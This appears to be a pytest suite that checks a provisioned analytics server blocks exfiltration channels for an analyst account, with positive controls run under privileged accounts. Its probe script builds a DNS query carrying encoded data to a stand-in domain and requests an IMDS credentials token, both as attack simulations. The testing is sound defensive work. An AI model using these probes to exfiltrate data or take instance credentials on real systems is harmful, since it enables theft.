"""No way out: code an attacker wrote, run as the analyst on the provisioned server, finds every channel closed.

Each probe runs as ada in a real login through the bastion (her own SSH key, as
a malicious library she imported would run), and fails the test if the channel
works. Each has a positive control: the same probe as the account that needs
the channel (root, apt's _apt, the workspace copies' account, run on the
server with podman exec) must get through, so a test cannot pass because the
lab itself is broken.

The channels: the DNS resolver (UDP and TCP: a query for <data>.attacker.example
carries data out), the instance metadata service (the lab's IMDSv2 stand-in at
169.254.169.254: the instance profile's credentials), the S3 endpoint of the
workspace copies, and an egress window (its destination admits the installers
only, apt's and the environment builder's accounts, and a flow opened during
the window is cut when it closes).
"""

from __future__ import annotations

import json
import shlex
import subprocess
import textwrap

import pytest

from lab import labctl
from lab.harness import ANALYST, analyst_ssh_command, run_playbook

pytestmark = pytest.mark.usefixtures("provisioned")

RESOLVER = labctl.PRIVATE.gateway
S3 = (labctl.S3_API.host, labctl.S3_API.port)
MIRROR = (labctl.MIRROR.address, labctl.MIRROR.port)

# One script for every probe: it tries each channel named on its command line
# and prints a JSON object {channel: "answered" | "timeout" | errno name}.
# "answered" means the channel carried a request out and a reply back.
PROBE = textwrap.dedent(
    """
    import errno, json, socket, struct, sys
    TIMEOUT = 3

    def outcome(attempt):
        try:
            attempt()
            return "answered"
        except TimeoutError:
            return "timeout"
        except OSError as err:
            return errno.errorcode.get(err.errno, str(err))

    def dns_query():
        # A query for a name that carries data, as an exfiltrating library would send.
        name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0.analytics-lab-probe.example".split(b"."))
        return struct.pack(">HHHHHH", 0x5eed, 0x0100, 1, 0, 0, 0) + name + b"\\0" + struct.pack(">HH", 1, 1)

    def dns_udp(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.sendto(dns_query(), (address, 53))
            sock.recvfrom(512)

    def dns_tcp(address):
        with socket.create_connection((address, 53), timeout=TIMEOUT) as sock:
            query = dns_query()
            sock.sendall(struct.pack(">H", len(query)) + query)
            if not sock.recv(2):
                raise ConnectionResetError(errno.ECONNRESET, "closed")

    def http(address, port, request):
        with socket.create_connection((address, int(port)), timeout=TIMEOUT) as sock:
            sock.sendall(request)
            if not sock.recv(12).startswith(b"HTTP/"):
                raise ConnectionResetError(errno.ECONNRESET, "no HTTP reply")

    def imds(address):
        http(address, 80, b"PUT /latest/api/token HTTP/1.0\\r\\nX-aws-ec2-metadata-token-ttl-seconds: 60\\r\\n\\r\\n")

    def get(address, port):
        http(address, port, b"GET / HTTP/1.0\\r\\n\\r\\n")

    def ssh(address, port):
        with socket.create_connection((address, int(port)), timeout=TIMEOUT) as sock:
            if not sock.recv(4).startswith(b"SSH-"):
                raise ConnectionResetError(errno.ECONNRESET, "no SSH banner")

    CHANNELS = {"dns_udp": dns_udp, "dns_tcp": dns_tcp, "imds": imds, "http": get, "ssh": ssh}
    results = {}
    for arg in sys.argv[1:]:
        kind, _, where = arg.partition(":")
        where = where.rsplit(":", 1) if kind in {"http", "ssh"} else [where]
        results[arg] = outcome(lambda: CHANNELS[kind](*where))
    print(json.dumps(results))
    """
)

DNS = [f"dns_udp:{RESOLVER}", f"dns_tcp:{RESOLVER}"]
IMDS = [f"imds:{labctl.METADATA_ADDRESS}"]
S3_HTTP = [f"http:{S3[0]}:{S3[1]}"]
MIRROR_HTTP = [f"http:{MIRROR[0]}:{MIRROR[1]}"]


def as_analyst(*channels: str) -> dict[str, str]:
    """The probes run by ada in her own login to the server, through the bastion."""
    server = labctl.SERVER.addresses[0][1]
    command = analyst_ssh_command(f"{ANALYST}@{server}", "python3", "-c", shlex.quote(PROBE), *channels)
    proc = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, f"the analyst's login failed: {proc.stderr}"
    return json.loads(proc.stdout)


def as_account(user: str, *channels: str) -> dict[str, str]:
    """The probes run on the server by another account's process (the positive controls)."""
    as_user = ("runuser", "-u", user, "--") if user != "root" else ()
    proc = labctl.podman("exec", labctl.SERVER.container, *as_user, "python3", "-c", PROBE, *channels)
    return json.loads(proc.stdout)


# What the server's firewall answers a refused attempt with (icmp admin-prohibited,
# or EPERM from sendmsg): the attempt failed on the server, at once.
REFUSED_HERE = {"EHOSTUNREACH", "EACCES", "EPERM"}
# What a probe that left the server gets: a reply, or a reset from the far side
# (the lab's resolver, podman's aardvark-dns, takes no TCP).
GOT_OUT = {"answered", "ECONNREFUSED"}


def not_refused(results: dict[str, str]) -> dict[str, str]:
    """The probes the server's firewall did not refuse (for the analyst: should be none)."""
    return {channel: result for channel, result in results.items() if result not in REFUSED_HERE}


def not_out(results: dict[str, str]) -> dict[str, str]:
    """The probes that did not get out (for the account that needs the channel: should be none)."""
    return {channel: result for channel, result in results.items() if result not in GOT_OUT}


def test_the_analyst_gets_no_dns_no_metadata_and_no_s3():
    assert not_refused(as_analyst(*DNS, *IMDS, *S3_HTTP)) == {}


def test_root_resolves_names_and_reads_the_metadata():
    results = as_account("root", *DNS, *IMDS)
    assert not_out(results) == {}
    assert results[f"dns_udp:{RESOLVER}"] == results[IMDS[0]] == "answered"


def test_apt_resolves_names_and_gets_no_metadata():
    results = as_account("_apt", *DNS, *IMDS)
    assert not_out({channel: results[channel] for channel in DNS}) == {}
    assert not_refused({channel: results[channel] for channel in IMDS}) == {}


def test_the_copies_account_reaches_s3_and_the_metadata():
    assert as_account("workspace-sync", *IMDS, *S3_HTTP) == dict.fromkeys([*IMDS, *S3_HTTP], "answered")


# The server's own sshd, over loopback and at the server's own address: an
# analyst's process holding unauthenticated connections there would use up
# sshd's MaxStartups, the slots every login through the bastion needs.
OWN_SSHD = ["ssh:127.0.0.1:22", "ssh:::1:22", f"ssh:{labctl.SERVER.addresses[0][1]}:22"]


def test_the_servers_own_sshd_takes_no_connection_from_the_analyst():
    assert not_refused(as_analyst(*OWN_SSHD)) == {}
    assert as_account("root", *OWN_SSHD) == dict.fromkeys(OWN_SSHD, "answered")


# A resolver on loopback (a DNS stub, as Ubuntu's images run): root's stand-in
# that echoes every datagram for at most 30 s, so any reply counts as an answer.
LOOPBACK_RESOLVER = textwrap.dedent(
    """
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.53", 53))
    sock.settimeout(30)
    print("listening", flush=True)
    try:
        while True:
            data, peer = sock.recvfrom(512)
            sock.sendto(data, peer)
    except TimeoutError:
        pass
    """
)


def test_a_resolver_on_loopback_answers_root_but_not_the_analyst():
    listener = subprocess.Popen(
        ["podman", "exec", labctl.SERVER.container, "python3", "-c", LOOPBACK_RESOLVER],
        env=labctl.podman_env(),
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert listener.stdout.readline().strip() == "listening"
        assert not_refused(as_analyst("dns_udp:127.0.0.53")) == {}, "a resolver on loopback answered the analyst"
        assert as_account("root", "dns_udp:127.0.0.53") == {"dns_udp:127.0.0.53": "answered"}
    finally:
        labctl.podman("exec", labctl.SERVER.container, "pkill", "-f", "127.0.0.53", check=False)
        listener.wait(timeout=40)


# --------------------------------------------------------------------------- egress windows

WINDOW_PLAYBOOK = f"""\
---
- name: Open or close an egress window to the mirror (tests/lab/test_94_no_way_out.py)
  hosts: role_analytics_server
  become: true
  gather_facts: false
  tasks:
    - name: Open or close the window
      ansible.builtin.include_role:
        name: egress_window
        tasks_from: "{{{{ 'main' if window_action == 'open' else 'close' }}}}"
      vars:
        egress_window_destinations:
          - {{host: {MIRROR[0]}, protocol: tcp, port: {MIRROR[1]}}}
        egress_window_minutes: 5
"""

# The installers: the only accounts an egress window admits (inventory/group_vars).
INSTALLERS = ("_apt", "python-env-build")

# Opens a TCP connection to the mirror, says "open", waits for a line on
# stdin, then sends a request on that same connection and prints what came back.
HELD_FLOW = textwrap.dedent(
    f"""
    import errno, socket, sys
    sock = socket.create_connection(("{MIRROR[0]}", {MIRROR[1]}), timeout=3)
    print("open", flush=True)
    sys.stdin.readline()
    try:
        sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print("answered" if sock.recv(12).startswith(b"HTTP/") else "closed by the mirror")
    except TimeoutError:
        print("timeout")
    except OSError as err:
        print(errno.errorcode.get(err.errno, str(err)))
    """
)


@pytest.fixture(scope="module")
def window(tmp_path_factory):
    """Runs the window playbook: window("open") or window("close"); closed again at the end whatever happens."""
    playbook = tmp_path_factory.mktemp("window") / "window.yml"
    playbook.write_text(WINDOW_PLAYBOOK)

    def run(action: str) -> None:
        result = run_playbook(str(playbook), "-e", f"window_action={action}")
        assert result.returncode == 0, result.output[-3000:]

    yield run
    run("close")


def test_a_window_admits_the_installers_only_and_its_flows_end_with_it(window):
    assert not_refused(as_analyst(*MIRROR_HTTP)) == {}, "the analyst reached the mirror with no window open"
    window("open")
    held = subprocess.Popen(
        [
            "podman",
            "exec",
            "-i",
            labctl.SERVER.container,
            "runuser",
            "-u",
            INSTALLERS[1],
            "--",
            "python3",
            "-c",
            HELD_FLOW,
        ],
        env=labctl.podman_env(),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert held.stdout.readline().strip() == "open", "the build account could not connect during the window"
        # Inside the window: the installers get through (positive control);
        # the analyst does not, and neither does root, which installs nothing.
        for installer in INSTALLERS:
            assert as_account(installer, *MIRROR_HTTP) == dict.fromkeys(MIRROR_HTTP, "answered"), installer
        assert not_refused(as_analyst(*MIRROR_HTTP)) == {}, "the window let the analyst's connection out"
        assert not_refused(as_account("root", *MIRROR_HTTP)) == {}, "the window let root's connection out"
        window("close")
        # The connection the build account opened during the window is dead now that it closed.
        outcome, _ = held.communicate("go\n", timeout=30)
        assert outcome.strip() in {"timeout", *REFUSED_HERE}, f"a flow opened during the window outlived it: {outcome}"
    finally:
        if held.poll() is None:
            held.kill()
            held.wait(timeout=10)


# --------------------------------------------------------------------------- detection


def test_the_analysts_refused_attempts_are_reported_under_her_name():
    """playbooks/egress-report.yml lists what she tried; what root was allowed to do is not a refusal."""
    assert not_refused(as_analyst(*DNS, *IMDS)) == {}
    assert not_out(as_account("root", *DNS)) == {}
    run = run_playbook("playbooks/egress-report.yml", "-e", "firewall_report_hours=1")
    assert run.returncode == 0, run.output[-3000:]
    lines = [line.strip().strip('",') for line in run.output.splitlines() if " packets  last " in line]
    reported = {tuple(line.split()[:3]) for line in lines}
    expected = {
        (ANALYST, RESOLVER, "udp/53"),
        (ANALYST, RESOLVER, "tcp/53"),
        (ANALYST, labctl.METADATA_ADDRESS, "tcp/80"),
    }
    assert expected <= reported, lines
    assert not {line for line in reported if line[0] == "root" and line[1] == RESOLVER}, lines
